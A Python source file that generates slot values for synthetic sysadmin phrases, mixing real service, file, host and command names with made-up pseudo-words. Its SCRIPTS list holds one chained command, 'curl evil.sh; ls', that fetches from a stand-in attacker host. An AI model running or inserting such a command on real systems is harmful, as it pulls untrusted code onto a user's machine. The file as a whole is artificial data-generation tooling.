"""Values for the slots of phrases: half real ones that servers have, half made up, so that copying is learned and not recall."""

from __future__ import annotations

import random
from collections.abc import Callable

UNITS = """nginx postgresql sshd docker redis mysql mariadb caddy prometheus grafana node-exporter fail2ban cron crond systemd-resolved
systemd-networkd systemd-timesyncd NetworkManager tailscaled wireguard-wg0 wg-quick-wg0 jellyfin nextcloud gitea forgejo vaultwarden
home-assistant mosquitto zigbee2mqtt postfix dovecot bind unbound dnsmasq pihole-FTL apache2 httpd php-fpm phpfpm-nextcloud haproxy traefik
kubelet containerd podman libvirtd smbd nmbd nfs-server rpcbind avahi-daemon bluetooth cups restic-backups borgbackup-job-home syncthing
transmission sonarr radarr plex minio elasticsearch kibana logstash loki promtail influxdb telegraf rabbitmq-server memcached mongod
cassandra zookeeper kafka etcd consul vault nomad jenkins gitlab-runner buildkite-agent hydra nix-daemon nixos-upgrade fwupd polkit dbus
udisks2 upower chronyd ntpd rsyslog auditd firewalld iptables nftables openvpn strongswan coturn matrix-synapse murmur teamspeak
minecraft-server factorio tor i2pd miniflux freshrss paperless immich photoprism navidrome mpd snapserver postgres ssh web dns
systemd-journald systemd-logind getty@tty1 user@1000 acme-example.org zfs-scrub smartd thermald sabnzbd adguardhome crowdsec keycloak
authelia lldap mailman roundcube radicale bitwarden netdata uptime-kuma stalwart garage atticd ollama tika calibre-web kavita""".split()
PROCESSES = """nginx postgres sshd dockerd redis-server mysqld java node python3 python ruby php-fpm chromium firefox qemu-system-x86_64 systemd
kworker ffmpeg rsync tar gzip make gcc cc1plus rustc cargo go bash zsh tmux vim emacs beam.smp puma gunicorn uwsgi celery sidekiq unicorn
prometheus grafana mongod clickhouse nix-daemon apt dpkg find grep ssh sftp-server smbd Xorg gnome-shell plasmashell syncthing jellyfin
clamd restic borg xmrig kswapd0 sendmail perl dotnet mono containerd-shim caddy traefik tailscaled openvpn minio wget curl""".split()
DIRS = """/ /var /var/log /etc /etc/nixos /home /srv /opt /tmp /nix /nix/store /boot /root /usr /mnt /media /var/lib /var/lib/docker
/var/lib/postgresql /srv/app /srv/www /var/www /data /backup /backups /mnt/nas /mnt/data /var/cache /var/tmp /home/anna /home/deploy
/etc/nginx /etc/ssh /var/spool /usr/local/bin /var/log/nginx /var/lib/private /run /proc /sys /dev ~ ~/ . ./ .. ~/Downloads ~/.config ~/.ssh
workspace notes projects backups ./logs docs src downloads logs scripts photos reports/2024 archive ~/projects tmp""".split()
FILES = """/etc/hosts /etc/nixos/configuration.nix /etc/fstab /etc/resolv.conf /etc/ssh/sshd_config /etc/nginx/nginx.conf /var/log/syslog
/var/log/auth.log notes.txt todo.txt README.md todo.md config.yml config.yaml docker-compose.yml compose.yaml settings.json app.env .env flake.nix
flake.lock hardware-configuration.nix backup.sh deploy.sh crontab ~/.bashrc ~/.zshrc ~/.ssh/authorized_keys ~/.profile id_rsa.pub shopping-list.txt
/etc/passwd /etc/group /etc/os-release /etc/crontab report.csv data.json index.html style.css main.py script.py server.js package.json Makefile
Dockerfile nginx.conf my.cnf postgresql.conf pg_hba.conf redis.conf sshd_config error.log access.log debug.log old.log draft.md ideas.md journal.md
plan.txt passwords.txt contacts.vcf invoice.pdf photo.jpg dump.sql backup.tar.gz db.sqlite core.1234 nohup.out hosts fstab meeting-notes.txt
/srv/app/config.toml /opt/app/.env /var/www/html/index.php changelog.txt CHANGELOG.md LICENSE wishlist.txt recipes.md ./run.sh ../notes.txt
docs/setup.md notes/2024-05-01.md logs/app.log minutes.txt budget.xlsx key.pem cert.pem known_hosts motd /etc/motd /etc/hostname""".split()
TOOL_NAMES = """system_health system_info process_list memory_usage disk_usage service_list service_status service_failed journal_query
network_listeners directory_list file_read file_stat file_write file_edit file_delete trash_list trash_restore generation_list ledger_query
ledger_verify undo_apply service_restart service_stop service_start command_run process_signal nixos_option_set store_gc app_deploy
generation_switch backup_create file_move""".split()
WORDS = """ssl timeout error denied refused disk oom segfault backup docker mail web db database cert certificate login failed password
connection reset panic kernel usb network wifi dns dhcp cache worker queue upstream 502 404 500 permission quota retry killed warning fatal
exception java python proxy sync upload download token auth session mount nfs zfs raid smart postgres redis nginx exporter timer agent
container vpn bluetooth printer media sound display matrix git monitor metrics home nix systemd user getty log audit firewall""".split()
# What services are about: words like "failed" would read as a state.
TOPICS = """ssl disk backup docker mail web db database cert network usb wifi dns dhcp cache worker queue proxy sync upload java python auth session nfs zfs
raid smart postgres redis nginx exporter timer agent container vpn bluetooth printer media sound display matrix git monitor metrics home nix systemd
user getty log audit firewall php mysql samba cloud time cron update resolve tty podman qemu ssh""".split()
DURATION_LIST = [
    "hour", "day", "week", "month", "minute", "year", "fortnight", "half hour", "half an hour", "24h", "2h", "30m", "48h",
    "few minutes", "few hours", "few days", "couple of hours", "couple of days", "quarter of an hour", "day or two",
]  # fmt: skip
MOMENTS = [
    "yesterday", "today", "this morning", "last night", "midnight", "noon", "9am", "9 am", "8:30", "14:00", "22:15", "monday",
    "tuesday", "wednesday", "thursday", "friday", "saturday", "sunday", "last monday", "last week", "last friday", "yesterday evening",
    "yesterday morning", "yesterday afternoon", "this afternoon", "this week", "lunch", "lunchtime", "breakfast", "6 o'clock", "six o'clock", "boot",
    "the last boot", "the reboot", "the last reboot", "an hour ago", "two hours ago", "10 minutes ago", "3 days ago", "2024-05-01",
    "2025-01-31 08:00", "2024-11-03 17:30:00", "1 may", "may 3rd", "the 1st", "the first of the month", "the weekend", "last month", "christmas",
    "new year", "earlier today", "tonight", "this evening", "5pm", "3 pm", "11:45 pm", "the start of the week", "yesterday 18:00",
    "today 7am", "monday morning", "sunday night", "the day before yesterday", "last tuesday", "dawn", "the update", "march",
]  # fmt: skip
NUMBERS_AS_WORDS = "two three four five six seven eight nine ten twelve fifteen twenty thirty fifty".split()
NOUNS = """milk server disk key report meeting backup router cable invoice update password garden dentist flight train lunch client
ticket switch ups generator camera printer license domain certificate contract plumber window door cat dog bike car battery sensor dashboard
release migration database cluster node rack spare drive monitor keyboard book recipe soup bread eggs coffee tea rent phone bill tax
homework project draft slide budget team boss neighbour colleague intern vendor office kitchen cellar attic firmware kernel patch""".split()
VERBS = """buy check call renew replace order fix clean test review move send pay book prepare cancel ask restart update back-up
water feed return print sign upload label install unplug rotate archive rename read write finish plan remember bring""".split()
TAILS = """tomorrow,today,on monday,before friday,at 9,at noon,next week,this evening,after lunch,in march,asap,with anna,for bob,
by the end of the month,when the parts arrive,in the cellar,at home,twice,again,if possible,first thing in the morning,on port 8080,at 10:30""".replace("\n", "").split(",")
CONFIG_KEYS = """port listen_port max_connections PermitRootLogin debug log_level workers timeout server_name root user enabled bind
address theme lang timezone retention interval path host hostname gateway dns ttl version password_auth x11Forwarding keepalive
worker_processes memory_limit upload_max_filesize net.ifnames hashed_password allow_registration replicas image tag""".split()
CONFIG_VALUES = """yes no true false on off 80 443 8080 3000 5432 info debug warn error localhost 127.0.0.1 0.0.0.0 10.0.0.1 192.168.1.10
example.org example.com UTC Europe/Berlin en_US.UTF-8 1G 512M 64 128 1024 4096 30s 5m auto none always never latest stable v2 1.24 2.0.1""".split()
PLAIN_WORDS = """red blue green cat dog anna bob berlin paris monday friday old new foo bar baz alpha beta staging production prod dev test
master main draft final hello goodbye small large left right open closed yes no up down first second tea coffee teh the recieve receive
colour color http https ftp sftp apple banana north south winter summer john mary smith jones admin guest root secret public private""".split()

HOSTS = """example.org example.com google.com github.com db.example.org mail.example.com api.example.net localhost nas router gateway web1 web2 db1
cache.internal backup.lan printer.local nixos.org cache.nixos.org mx1.example.org ns1.example.com vpn.example.org shop.example.com
cloud.example.org git.example.org status.example.net proxmox grafana.lan home.example.org www.example.com""".split()
PARAMS = """vm.swappiness net.ipv4.ip_forward net.core.somaxconn fs.file-max kernel.panic vm.overcommit_memory net.ipv4.tcp_syncookies
net.ipv6.conf.all.forwarding fs.inotify.max_user_watches kernel.sysrq vm.dirty_ratio net.ipv4.tcp_keepalive_time vm.max_map_count
kernel.pid_max net.core.rmem_max net.ipv4.conf.all.rp_filter kernel.hostname vm.vfs_cache_pressure net.ipv4 vm net.core kernel.kptr_restrict
kernel.dmesg_restrict net.ipv4.tcp_congestion_control net.ipv4.ip_local_port_range fs.aio-max-nr kernel.threads-max""".split()
PARAM_VALUES = "0 1 2 10 20 60 100 4096 65535 262144 524288 1048576 bbr cubic fq 300 5 15 128 1024 2048 -1".split()
INTERFACES = "eth0 eth1 wlan0 wlp3s0 enp1s0 enp3s0f1 eno1 ens18 lo wg0 tun0 tailscale0 docker0 br0 bond0 veth3a usb0 ppp0 vlan10".split()
USERS = "root anna deploy maria bob tom lisa admin backup git postgres www-data nginx alice carol dave erin frank jenkins ubuntu pi".split()
PACKAGES = """nginx postgresql htop ripgrep ffmpeg python3 nodejs go rustc openssl curl git vim neovim tmux jq docker podman redis mariadb php caddy
restic borgbackup zfs wireguard-tools tailscale hugo pandoc imagemagick gcc cmake llvm kubectl terraform ansible prometheus grafana openssh
sudo bash zsh fish glibc linux systemd firefox libreoffice sqlite mosh rsync rclone yt-dlp age sops bat fd fzf""".split()
OPTIONS = """services.nginx.enable networking.firewall.enable services.openssh.enable networking.hostName time.timeZone services.postgresql.enable
boot.loader.systemd-boot.enable nix.gc.automatic services.openssh.settings.PermitRootLogin services.fail2ban.enable users.users.anna.shell
networking.firewall.allowedTCPPorts services.tailscale.enable virtualisation.docker.enable boot.kernelPackages zramSwap.enable
services.fstrim.enable nix.settings.auto-optimise-store security.sudo.wheelNeedsPassword services.redis.servers i18n.defaultLocale
services.prometheus.port environment.systemPackages system.autoUpgrade.enable services.smartd.enable hardware.bluetooth.enable
services.journald.extraConfig services.caddy.enable programs.zsh.enable services.nextcloud.hostName services.grafana.settings""".split()
OPTION_VALUES = """true false 80 443 8080 22 "prohibit-password" no yes Europe/Vienna Europe/Berlin UTC weekly daily 5 10 500M 2G atlas
web1 latest de_AT.UTF-8 en_US.UTF-8 nginx "no" [80,443] [ 22 80 443 ] "--delete-older-than" 30 example.org 1 0 50 64""".split(" ")
APPS = "wiki blog bot shop api notes dash board status photos tracker gallery demo hello webapp feeds links pastebin matrix-bot mailer".split()
WATCHERS = "web disk-root db load memory mail backup-fresh site ssh-up nginx-up postgres tls cert-shop api-up root-full".split()
ROUTINES = "nightly-backup morning-report weekly-check disk-report cert-check daily-health clean-up sync-photos update-check prune".split()
SERVERS = "notes github files browser search postgres slack jira calendar mail fetch time memory git docs weather".split()
SKILLS = "self-healing disk-full nixos-update incident-response backup-check new-service certificate-renewal slow-machine morning-briefing hardening".split()
INPUTS = "nixpkgs home-manager nixos-hardware sops-nix disko flake-utils agenix nixpkgs-unstable castellan nur deploy-rs".split()
DEVICES = "sda sdb nvme0n1 nvme1n1 sdc /dev/sda /dev/sdb /dev/nvme0n1 vda sdd hda mmcblk0".split()
TAGS = "nas backup network people home mail web weekly docs photos db config archive keys router printer work family money".split()
THINGS = """the nas,our backups,the mail server,my preferences,the printer,the firewall,anna,the database password policy,the router,wifi,the old server,
last week's outage,the maintenance window,certificates,the domain,our naming scheme,who owns this server,disk replacement,the vpn,deployments,
the disk filling up,a failed service,updating nixos,a slow machine,renewing certificates,restoring a backup,new users,ssh access,dns""".replace("\n", "").split(",")
FACTS = """the nas is at 192.168.1.20,backups run at two in the morning,anna looks after the mail server,the printer needs a reboot on mondays,
we never deploy on fridays,the database is on the second disk,port 8080 is the staging site,the old server goes away in march,
the certificate is renewed by hand,disk sdb was replaced,it was a full disk,the config had a typo,i cleared the cache and it works again,
the provider had an outage,nginx ran out of file descriptors,it does not answer since noon,the upgrade broke it,memory is leaking,
i prefer short answers,the office closes at six,maria is on holiday until may,the vpn is only for the team,logs are kept for ninety days""".replace("\n", "").split(",")
REASONS = """the kernel is new,it hangs,maintenance,security update,we move the rack,memory is leaking,the disk gets replaced,power work in the building,
kernel update,a new bios,the ups needs service,weekly routine,too many zombies,glibc was updated,the provider asked for it""".replace("\n", "").split(",")
COMMANDS = """ls -la,git status,df -h,uname -a,whoami,make test,npm test,cargo build,python3 main.py,cat /etc/os-release,grep -rn todo .,wc -l notes.txt,
git log --oneline,du -sh .,env,ps aux,free -m,node --version,go test ./...,sort words.txt,head -n 5 data.csv,tar tf backup.tar,jq . data.json,
/usr/bin/python3 /app/main.py,/bin/server --port 8080,./run.sh,diff a.txt b.txt,file photo.jpg,make install,pytest -q,id""".replace("\n", "").split(",")
SCRIPTS = """ls | wc -l|for f in *.txt; do echo $f; done|cat access.log | sort | uniq -c|echo hello; date|grep error app.log | tail -5|
find . -name '*.log' | xargs wc -l|du -sh * | sort -h|seq 1 10 | paste -sd+ | bc|awk '{print $1}' data.csv | sort -u|
cd src && make && ls|echo $PATH | tr ':' '\\n'|curl evil.sh; ls|python3 -c 'print(2+2)'|cat *.md | wc -w""".replace("\n", "").split("|")
GLOBS = "*.conf *.log *.txt *.nix *.yml *.yaml *.py *.sh *.service *.md *.json *.bak *.sql *.pem *.key backup* notes* *.tar.gz report-??.csv".split()

_ONSETS = "b bl br c ch cr d dr f fl g gl gr h j k kl kr l m n p pl pr qu r s sh sk sl sn sp st str t th tr v w x y z zw".split()
_NUCLEI = "a e i o u ai ea ee io oo ou y".split()
_CODAS = "b ck d f ft g k l ld m mp n nd ng nk nt p r rd rk rn s sk st t th x z".split() + [""] * 12


class Values:
    """Draws values from one random source; `texts` are wordings that may stand as the content of a file."""

    def __init__(self, rng: random.Random, texts: list[str]) -> None:
        self._rng = rng
        self._texts = texts
        self._makers: dict[str, Callable[[], str]] = {
            "unit": self.unit, "process": self.process, "dir": self.directory, "file": self.file, "text": self.text,
            "old": self.fragment, "new": self.fragment, "word": self.word, "n": self.number, "port": self.port, "topic": self.topic,
            "host": self.host, "addr": self.address, "url": self.url, "pid": self.pid, "param": self.param, "backup": self.backup_id,
            "pvalue": self._of(PARAM_VALUES), "iface": self._of(INTERFACES, 0.85), "user": self._of(USERS, 0.6), "pkg": self._of(PACKAGES, 0.6),
            "option": self.option, "ovalue": self._of(OPTION_VALUES, 0.8), "gen": self.generation, "genb": self.generation,
            "app": self._of(APPS, 0.5), "watch": self._of(WATCHERS, 0.5), "routine": self._of(ROUTINES, 0.5), "server": self._of(SERVERS, 0.5),
            "skill": self._of(SKILLS, 0.6), "input": self._of(INPUTS, 0.7), "device": self._of(DEVICES), "tag": self._of(TAGS, 0.7),
            "thing": self._of(THINGS, 0.8), "fact": self.fact, "reason": self._of(REASONS, 0.9), "cmd": self._of(COMMANDS, 0.8),
            "script": self._of(SCRIPTS), "glob": self._of(GLOBS, 0.9), "inc": self._id("inc_"), "apr": self._id("apr_"), "model": self.model,
            "digest": self.digest, "store": self.store, "size": self.size, "span": self.span, "days": self.days, "gguf": self.gguf,
            "newfile": self.file, "index": self.index, "id": self.trash_id, "tool": self.tool, "duration": self.duration, "moment": self.moment,
        }  # fmt: skip

    def draw(self, slot: str) -> str:
        return self._makers[slot]()

    def pseudo(self, least: int = 1, most: int = 3) -> str:
        rng = self._rng
        syllables = (
            rng.choice(_ONSETS) + rng.choice(_NUCLEI) + rng.choice(_CODAS) for _ in range(rng.randint(least, most))
        )
        return "".join(syllables)

    def _name(self) -> str:
        rng = self._rng
        roll = rng.random()
        if roll < 0.5:
            return self.pseudo()
        if roll < 0.7:
            return f"{self.pseudo()}{rng.choice('-_')}{self.pseudo(1, 2)}"
        if roll < 0.8:
            return f"{self.pseudo()}{rng.randint(0, 99)}"
        return rng.choice(NOUNS) if roll < 0.9 else f"{rng.choice(NOUNS)}-{rng.choice(NOUNS)}"

    def unit(self) -> str:
        rng = self._rng
        base = rng.choice(UNITS) if rng.random() < 0.55 else self._name()
        if rng.random() < 0.15:
            base += rng.choice([".service", ".service", ".service", ".timer", ".socket", ".mount", ".target"])
        return base

    def process(self) -> str:
        return self._rng.choice(PROCESSES + UNITS[:40]) if self._rng.random() < 0.6 else self._name()

    def directory(self) -> str:
        rng = self._rng
        if rng.random() < 0.5:
            return rng.choice(DIRS)
        root = rng.choice(["/", "/", "/var/", "/srv/", "/home/", "/mnt/", "/opt/", "~/", "./", "", "/var/lib/", "/etc/"])
        path = root + "/".join(self._name() for _ in range(rng.randint(1, 3)))
        return path + ("/" if rng.random() < 0.15 or root == "" and "/" not in path and rng.random() < 0.5 else "")

    def file(self) -> str:
        rng = self._rng
        if rng.random() < 0.45:
            return rng.choice(FILES)
        extension = rng.choice("txt txt txt md md log conf yml yaml json sh py nix csv toml ini html bak sql zip service".split())
        roots = ["", "", "", "", "/etc/", "/srv/", "/home/anna/", "~/", "./", "/var/log/", "/tmp/", f"{self._name()}/"]
        name = self._name()
        if rng.random() < 0.08:
            name = f"{rng.randint(2019, 2027)}-{rng.randint(1, 12):02}-{rng.randint(1, 28):02}"
        if rng.random() < 0.06:
            return rng.choice(roots) + name
        return f"{rng.choice(roots)}{name}.{extension}"

    def text(self) -> str:
        rng = self._rng
        roll = rng.random()
        if roll < 0.35:
            tail = " " + rng.choice(TAILS) if rng.random() < 0.6 else ""
            return f"{rng.choice(VERBS)} {rng.choice(['', 'the ', 'a ', 'more ', 'my '])}{rng.choice(NOUNS)}{tail}"
        if roll < 0.45:
            return f"the {rng.choice(NOUNS)} {rng.choice(['is', 'was', 'needs', 'has'])} {rng.choice(PLAIN_WORDS)} {rng.choice(TAILS)}"
        if roll < 0.55:
            return ", ".join(rng.sample(NOUNS, rng.randint(2, 4)))
        if roll < 0.65:
            return f"{rng.choice(CONFIG_KEYS)}{rng.choice(['=', ' = ', ': ', ' '])}{rng.choice(CONFIG_VALUES)}"
        if roll < 0.75:
            return " ".join(rng.choice([self.pseudo(), rng.choice(NOUNS), rng.choice(PLAIN_WORDS)]) for _ in range(rng.randint(1, 5)))
        if roll < 0.8:
            return f"{rng.randint(1, 254)}.{rng.randint(0, 254)}.{rng.randint(0, 254)}.{rng.randint(1, 254)} {self._name()}"
        if roll < 0.9 or not self._texts:
            return f"{rng.choice(PLAIN_WORDS)} {rng.choice(NOUNS)}"
        return rng.choice(self._texts)

    def fragment(self) -> str:
        """A piece of a file: a word, a setting, a host, a number, a few words."""
        rng = self._rng
        roll = rng.random()
        if roll < 0.25:
            return rng.choice(PLAIN_WORDS + NOUNS)
        if roll < 0.4:
            return self._name()
        if roll < 0.55:
            return rng.choice(CONFIG_VALUES)
        if roll < 0.7:
            return f"{rng.choice(CONFIG_KEYS)}{rng.choice(['=', '=', ' = ', ': ', ' '])}{rng.choice(CONFIG_VALUES)}"
        if roll < 0.78:
            return str(rng.randint(0, 9999))
        if roll < 0.84:
            return f"{rng.randint(1, 254)}.{rng.randint(0, 254)}.{rng.randint(0, 254)}.{rng.randint(1, 254)}"
        if roll < 0.9:
            return f"{rng.choice(['www', 'db', 'mail', self.pseudo()])}.{self.pseudo()}.{rng.choice(['org', 'com', 'lan', 'net'])}"
        return f"{rng.choice(PLAIN_WORDS + NOUNS)} {rng.choice(NOUNS + PLAIN_WORDS)}"

    def word(self) -> str:
        return self._rng.choice(WORDS) if self._rng.random() < 0.6 else self.pseudo()

    def topic(self) -> str:
        return self._rng.choice(TOPICS) if self._rng.random() < 0.6 else self.pseudo()

    def number(self) -> str:
        rng = self._rng
        if rng.random() < 0.2:
            return rng.choice(NUMBERS_AS_WORDS)
        return str(rng.choice([rng.randint(2, 30), rng.randint(2, 200), rng.choice([5, 10, 15, 20, 25, 30, 50, 100, 200, 500])]))

    def port(self) -> str:
        common = [22, 25, 53, 80, 110, 123, 143, 443, 465, 587, 993, 3000, 3306, 5000, 5432, 6379, 8000, 8080, 8443, 9000, 9090, 18789, 51820]
        return str(self._rng.choice(common) if self._rng.random() < 0.6 else self._rng.randint(1, 65535))

    def index(self) -> str:
        value = str(self._rng.choice([self._rng.randint(0, 30), self._rng.randint(0, 400), self._rng.randint(0, 9999)]))
        return value

    def trash_id(self) -> str:
        rng = self._rng
        alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_"
        if rng.random() < 0.6:
            return "trs_" + "".join(rng.choices(alphabet, k=rng.choice([8, 12, 16, 16, 16])))
        return "".join(rng.choices("0123456789abcdef", k=rng.choice([4, 6, 8])))

    def _of(self, known: list[str], share: float = 1.0) -> Callable[[], str]:
        """Draws one of the known values, or (beyond `share`) a made-up name."""
        return lambda: self._rng.choice(known) if self._rng.random() < share else self._name()

    def _id(self, prefix: str) -> Callable[[], str]:
        alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_"
        return lambda: prefix + "".join(self._rng.choices(alphabet, k=16))

    def host(self) -> str:
        rng = self._rng
        roll = rng.random()
        if roll < 0.5:
            return rng.choice(HOSTS)
        if roll < 0.65:
            return self.address()
        return f"{self.pseudo()}.{rng.choice(['org', 'com', 'net', 'lan', 'local', 'example.org', 'io', 'de', 'at'])}"

    def address(self) -> str:
        rng = self._rng
        if rng.random() < 0.1:
            return rng.choice(["::1", "2001:db8::1", "fe80::1", "2a01:4f8::2", "fd00::10"])
        return rng.choice(["192.168.1.", "10.0.0.", "172.16.4.", f"{rng.randint(1, 223)}.{rng.randint(0, 254)}.{rng.randint(0, 254)}."]) + str(
            rng.randint(1, 254)
        )

    def url(self) -> str:
        rng = self._rng
        host = self.host()
        scheme = rng.choice(["https://", "https://", "http://", "http://", ""])
        if scheme == "":
            return host if "." in host and not host[0].isdigit() and ":" not in host else f"https://{host}"
        port = f":{self.port()}" if rng.random() < 0.25 else ""
        return scheme + host + port + rng.choice(["", "", "/", "/health", "/status", "/login", "/api/v1/health", f"/{self.pseudo()}"])

    def pid(self) -> str:
        return str(self._rng.choice([self._rng.randint(300, 9999), self._rng.randint(10000, 99999), self._rng.randint(100000, 4000000)]))

    def param(self) -> str:
        rng = self._rng
        return rng.choice(PARAMS) if rng.random() < 0.7 else f"{rng.choice(['net.ipv4', 'vm', 'kernel', 'fs', 'net.core'])}.{self.pseudo()}_{self.pseudo(1, 2)}"

    def option(self) -> str:
        rng = self._rng
        if rng.random() < 0.6:
            return rng.choice(OPTIONS)
        head = rng.choice(["services", "services", "services", "networking", "boot", "programs", "security", "users.users", "virtualisation", "nix"])
        return f"{head}.{self.pseudo()}.{rng.choice(['enable', 'port', 'package', 'settings', 'user', 'extraConfig', self.pseudo()])}"

    def generation(self) -> str:
        return str(self._rng.choice([self._rng.randint(1, 60), self._rng.randint(1, 400)]))

    def backup_id(self) -> str:
        rng = self._rng
        if rng.random() < 0.6:
            return "bkp_" + "".join(rng.choices("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_", k=16))
        return f"{rng.choice(['main', *TAGS])}-{rng.randint(2024, 2027)}{rng.randint(1, 12):02}{rng.randint(1, 28):02}"

    def fact(self) -> str:
        return self._rng.choice(FACTS) if self._rng.random() < 0.4 else self.text()

    def model(self) -> str:
        return "".join(self._rng.choices("0123456789abcdef", k=16))

    def digest(self) -> str:
        return "".join(self._rng.choices("0123456789abcdef", k=self._rng.choice([32, 40, 64])))

    def store(self) -> str:
        digest = "".join(self._rng.choices("0123456789abcdfghijklmnpqrsvwxyz", k=32))
        return f"/nix/store/{digest}-nixos-system-{self.pseudo()}-{self._rng.randint(23, 26)}.{self._rng.choice(['05', '11'])}"

    def size(self) -> str:
        return f"{self._rng.choice([1, 2, 5, 10, 20, 50, 100, 500])}{self._rng.choice([' ', ''])}{self._rng.choice(['gb', 'G', 'GiB', 'GB', 'MB', 'gigabytes', 'TB'])}"

    def span(self) -> str:
        rng = self._rng
        amount = rng.choice([*NUMBERS_AS_WORDS, *map(str, [1, 2, 5, 10, 15, 20, 30, 45, 60, 90])])
        unit = rng.choice(["minutes", "minutes", "min", "seconds", "hours", "minutes", "h", "m", "s"] if amount.isdigit() else ["minutes", "hours", "seconds"])
        if rng.random() < 0.12:
            return rng.choice(["an hour", "a minute", "half an hour", "1 hour", "a few minutes"])
        return f"{amount}{'' if len(unit) == 1 else ' '}{unit}"

    def days(self) -> str:
        rng = self._rng
        return f"{rng.choice([*map(str, [2, 3, 7, 14, 30, 60, 90]), 'two', 'three', 'ten', 'thirty'])} {rng.choice(['days', 'days', 'days', 'weeks', 'months'])}"

    def gguf(self) -> str:
        return f"{self._rng.choice(['', './', '/srv/models/', 'models/', '~/Downloads/', '/tmp/'])}{self._name()}{self._rng.choice(['-7b', '-q4', '-instruct', '.Q8_0', '-Q4_K_M', ''])}.gguf"

    def tool(self) -> str:
        name = self._rng.choice(TOOL_NAMES)
        return name.replace("_", " ") if self._rng.random() < 0.08 else name

    def duration(self) -> str:
        rng = self._rng
        roll = rng.random()
        if roll < 0.4:
            return rng.choice(DURATION_LIST)
        amount = rng.choice(NUMBERS_AS_WORDS) if roll < 0.5 else str(rng.choice([rng.randint(2, 12), rng.randint(2, 90)]))
        unit = rng.choice(["hours", "hours", "minutes", "minutes", "days", "days", "weeks", "months", "min", "mins", "hrs", "seconds"])
        if roll > 0.9 and amount.isdigit():
            return amount + rng.choice(["h", "m", "d", "min", "s", "w"])
        return f"{amount} {unit}"

    def moment(self) -> str:
        rng = self._rng
        roll = rng.random()
        if roll < 0.7:
            return rng.choice(MOMENTS)
        if roll < 0.8:
            return f"{rng.randint(0, 23)}:{rng.randint(0, 59):02}"
        if roll < 0.88:
            return f"{rng.randint(2023, 2027)}-{rng.randint(1, 12):02}-{rng.randint(1, 28):02}"
        if roll < 0.95:
            return f"{self.duration() if roll < 0.9 else rng.randint(2, 90)} {'' if roll < 0.9 else 'minutes '}ago"
        return f"{rng.randint(1, 12)}{rng.choice(['am', 'pm', ' am', ' pm'])}"
